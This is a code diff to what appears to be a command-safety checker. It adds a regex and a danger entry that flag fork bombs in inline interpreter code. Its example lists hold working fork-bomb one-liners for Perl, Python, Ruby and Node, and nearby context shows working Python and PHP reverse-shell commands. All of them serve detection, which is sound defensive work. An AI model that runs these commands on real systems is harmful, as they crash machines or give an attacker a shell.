@@ -131,6 +131,9 @@ const downloaded = (v: CommandView, path: string): boolean => {
   return !p.includes('/') && p !== '' && [...v.downloads].some((d) => d.endsWith('/' + p));
 };
 
+/** Forking (or spawning) in a loop that never ends: Perl's `fork while 1`, `while True: os.fork()`, Ruby's `loop { fork }`. */
+const FORK_LOOP = /\bfork\s+while\s+(1|true)\b|\bwhile\s*\(?\s*(1|true|True)\s*\)?\s*[:{]?\s*(?:os\s*\.\s*)?(?:fork|spawn|require\s*\(\s*["']child_process["']\s*\)\s*\.\s*spawn)\s*\(|\bloop\s*(?:do|\{)\s*fork\b/;
+
 /** An editor command that reaches a shell: `!cmd`, `:sh`/`:shell` (as a command, not `ft=sh`), system(), Lua's os.execute. */
 const EDITOR_ESCAPE = /(^|[|:\s])!|\bsystem(list)?\s*\(|\bterminal\b|(^|[|:]\s*)sh(ell)?\b|\bos\.execute\b|\bio\.popen\b/;
 
@@ -200,6 +203,12 @@ export const EXEC_DANGERS: DangerEntry[] = [
     programs: CODE_RUNNERS,
     examples: ['python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'', 'php -r \'$s=fsockopen("10.0.0.1",9);exec("/bin/sh -i <&3 >&3");\''],
     match: (v) => inlineCode(v).some((c) => REVERSE_SHELL.test(c.code)),
+  },
+  {
+    id: 'inline-code-fork-bomb', risk: 'high', reason: 'inline code forks in an endless loop: a fork bomb',
+    programs: CODE_RUNNERS,
+    examples: ["perl -e 'fork while 1'", 'python3 -c "import os\nwhile True: os.fork()"', "ruby -e 'loop { fork }'", "node -e \"while(1) require('child_process').spawn('node')\""],
+    match: (v) => inlineCode(v).some((c) => FORK_LOOP.test(c.code)),
   },
   {
     id: 'inline-code-spawn', risk: 'medium', reason: 'inline interpreter code starts a shell or another program',
